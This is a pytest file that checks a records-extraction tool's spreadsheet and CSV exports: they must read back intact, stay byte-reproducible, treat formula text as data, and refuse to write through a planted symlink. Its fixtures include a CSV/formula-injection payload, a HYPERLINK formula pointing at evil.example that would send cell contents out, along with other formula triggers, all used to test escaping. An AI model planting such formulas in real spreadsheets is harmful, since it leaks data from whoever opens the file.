"""`extract --out` writes records.xlsx and records.csv beside records.json: both read back
equal to records.json, a cell that a spreadsheet would run as a formula is data, and
nothing is written outside --out (a link planted there is replaced, not written through)."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pincite.extract.spreadsheets import (
    TRUNCATED,
    XLSX_MAX_CHARS,
    csv_value,
    records_csv,
    records_workbook,
)
from tests.commands import invoke
from tests.corpus import EXAMPLES, TENDER_DOCS, files_under, tender_library

SCHEMA = EXAMPLES / "tender" / "schema.yaml"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
OUTSIDE = "outside.csv"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    root = tmp_path_factory.mktemp("sheets")
    lib = tender_library(root / "store")
    lib.update_index()
    lib.close()
    out = root / "out"
    out.mkdir()
    (root / OUTSIDE).write_text("keep")
    os.symlink(root / OUTSIDE, out / "records.csv")  # planted: must not be written through
    before = files_under(root, root / "store")
    cwd = os.getcwd()
    os.chdir(root)
    try:
        r = invoke("extract", "--schema", str(SCHEMA), *TENDER_DOCS, "--as", "demo:ana:analysts",
                   "--out", str(out), store=root / "store")
    finally:
        os.chdir(cwd)
    assert r.returncode == 0, r.stderr
    assert "records.xlsx" in r.stdout and "records.csv" in r.stdout
    return root, out, before, files_under(root, root / "store")


def _sheet(ws) -> list[dict]:
    rows = list(ws.iter_rows())
    head = [c.value for c in rows[0]]
    return [dict(zip(head, r, strict=True)) for r in rows[1:]]


def test_xlsx_reads_back_equal_to_records_json(run):
    _root, out, _b, _a = run
    doc = json.loads((out / "records.json").read_text())
    html = (out / "report.html").read_text()
    wb = load_workbook(out / "records.xlsx")
    assert wb.sheetnames == ["records", "citations", "run"]
    rows = _sheet(wb["records"])
    assert [r["field"].value for r in rows] == [x["field"] for x in doc["records"]]
    cites = _sheet(wb["citations"])
    assert len(cites) == sum(len(x["provenance"]) for x in doc["records"])
    money = 0
    for rec, row in zip(doc["records"], rows, strict=True):
        for k in ("field", "type", "outcome", "status", "reason", "confidence"):
            assert row[k].value == rec[k], (rec["field"], k)
        assert json.loads(row["value_json"].value) == rec["value"]
        v = row["value"].value
        if isinstance(rec["value"], dict):
            assert isinstance(v, str) and row["value"].data_type == "s"
            if "amount" in rec["value"]:  # the report's readable form: digits, currency
                money += 1
                assert f"{rec['value']['amount']:,}" in v and rec["value"]["currency"] in v
        else:
            assert v == rec["value"] and type(v) is type(rec["value"]), rec["field"]
        first = rec["provenance"][0]
        for k in ("quote", "locator", "page", "doc_id", "doc_sha256", "quote_verified"):
            assert row[k].value == first[k], (rec["field"], k)
        assert row["citations"].value == len(rec["provenance"])
        link = row["report"].hyperlink.target
        assert link == f"report.html#f-{rec['field']}"
        assert f'id="{link.split("#")[1]}"' in html  # the anchor the report has
        mine = [c for c in cites if c["field"].value == rec["field"]]
        assert [c["n"].value for c in mine] == list(range(1, len(rec["provenance"]) + 1))
        for c, p in zip(mine, rec["provenance"], strict=True):
            for k in ("doc_id", "doc_sha256", "text_layer", "locator", "page", "char_start",
                      "char_end", "quote", "quote_verified", "verify_reason"):
                assert c[k].value == p[k], (rec["field"], k)
            assert c["report"].hyperlink.target == link
    assert money == 4
    meta = {r["key"].value: r["value"].value for r in _sheet(wb["run"])}
    assert meta.pop("schema_name") == "pincite.records" and meta.pop("version") == 1
    assert {k[4:]: json.loads(v) if isinstance(doc["run"][k[4:]], dict | list) else v
            for k, v in meta.items() if k.startswith("run.")} == doc["run"]
    assert len(meta) == len(doc["run"])


def test_csv_reads_back_equal_to_records_json(run):
    _root, out, _b, _a = run
    doc = json.loads((out / "records.json").read_text())
    raw = (out / "records.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: a spreadsheet reads the accents
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(doc["records"])
    for rec, row0 in zip(doc["records"], rows, strict=True):
        row = {k: csv_value(v) for k, v in row0.items()}
        for k in ("field", "type", "outcome", "status", "reason"):
            assert row[k] == rec[k]
        assert Decimal(row["confidence"]) == Decimal(str(rec["confidence"]))
        assert json.loads(row["value_json"]) == rec["value"]
        if isinstance(rec["value"], str):
            assert row["value"] == rec["value"]
        elif not isinstance(rec["value"], dict):
            assert json.loads(row["value"]) == rec["value"]
        first = rec["provenance"][0]
        assert (row["quote"], row["locator"], row["doc_id"], row["doc_sha256"]) == (
            first["quote"], first["locator"], first["doc_id"], first["doc_sha256"])
        assert row["page"] == ("" if first["page"] is None else str(first["page"]))
        assert row["quote_verified"] == json.dumps(first["quote_verified"])
        assert int(row["citations"]) == len(rec["provenance"])
        assert row["report"] == f"report.html#f-{rec['field']}"


def _planted(doc: dict) -> dict:
    d = copy.deepcopy(doc)
    recs = d["records"]
    recs[0]["value"] = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    recs[0]["provenance"][0]["quote"] = "@SUM(1)"
    recs[1]["value"] = "+1+2"
    recs[1]["provenance"][0]["locator"] = "-2+3"
    recs[2]["value"] = "'=already quoted"
    recs[2]["provenance"][0]["quote"] = "\t=1+1"
    recs[3]["value"] = -731.9  # a plain negative number stays a number
    recs[3]["provenance"][0]["quote"] = "\r=1+1"
    recs[4]["value"] = "#N/A"
    recs[4]["provenance"][0]["quote"] = "-1+1"
    return d


def test_formula_triggers_are_escaped_in_csv(run):
    _root, out, _b, _a = run
    doc = _planted(json.loads((out / "records.json").read_text()))
    text = records_csv(doc).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(cell), cell
    recs = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    r = [recs[x["field"]] for x in doc["records"][:5]]
    assert r[0]["value"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'
    assert r[0]["quote"] == "'@SUM(1)" and r[1]["value"] == "'+1+2" and r[1]["locator"] == "'-2+3"
    assert r[2]["value"] == "''=already quoted" and r[2]["quote"] == "'\t=1+1"
    assert r[3]["value"] == "-731.9" and r[3]["quote"] == "'\r=1+1"
    assert r[4]["quote"] == "'-1+1"
    # reading back is one rule: drop one leading apostrophe
    assert csv_value(r[0]["value"]) == doc["records"][0]["value"]
    assert csv_value(r[2]["value"]) == "'=already quoted"
    assert float(csv_value(r[3]["value"])) == -731.9
    assert csv_value(r[3]["quote"]) == "\r=1+1"


def test_xlsx_cells_holding_formula_text_are_strings(run):
    _root, out, _b, _a = run
    doc = _planted(json.loads((out / "records.json").read_text()))
    data = records_workbook(doc)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)  # no formula at all
    wb = load_workbook(io.BytesIO(data))
    rows = _sheet(wb["records"])
    planted = {0: ("value", doc["records"][0]["value"]), 1: ("value", "+1+2"),
               4: ("value", "#N/A")}
    for i, (col, want) in planted.items():
        cell = rows[i][col]
        assert cell.value == want and cell.data_type == "s", (i, col, cell.data_type)
    assert rows[0]["quote"].value == "@SUM(1)" and rows[0]["quote"].data_type == "s"
    assert rows[0]["value"].quotePrefix and rows[0]["quote"].quotePrefix
    assert rows[3]["value"].value == -731.9 and rows[3]["value"].data_type == "n"
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type in ("s", "n", "b"), (ws.title, c.coordinate, c.data_type)


def test_control_characters_and_overlong_text(run):
    """XML cannot hold most control characters and Excel holds 32,767 characters a cell:
    the workbook still opens, the CSV keeps the whole text."""
    _root, out, _b, _a = run
    doc = copy.deepcopy(json.loads((out / "records.json").read_text()))
    doc["records"][0]["provenance"][0]["quote"] = "bell\x07 and nul\x00"
    doc["records"][1]["value"] = "x" * 40_000
    rows = _sheet(load_workbook(io.BytesIO(records_workbook(doc)))["records"])
    assert rows[0]["quote"].value == "bell\ufffd and nul\ufffd"
    long = rows[1]["value"].value
    assert len(long) == XLSX_MAX_CHARS and long.endswith(TRUNCATED)
    text = records_csv(doc).decode("utf-8-sig")
    assert "x" * 40_000 in text


def test_same_records_same_bytes(run):
    _root, out, _b, _a = run
    doc = json.loads((out / "records.json").read_text())
    data = records_workbook(doc)
    assert (out / "records.xlsx").read_bytes() == data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert core.count("1980-01-01T00:00:00Z") == 2


def test_nothing_is_written_outside_out(run):
    root, out, before, after = run
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    assert changed and all(k.startswith("out/") for k in changed), changed
    assert (root / OUTSIDE).read_text() == "keep"  # the planted link was not written through
    assert not (out / "records.csv").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == [
        "records.csv", "records.json", "records.xlsx", "report.docx",
        "report.html"]  # no temporary left
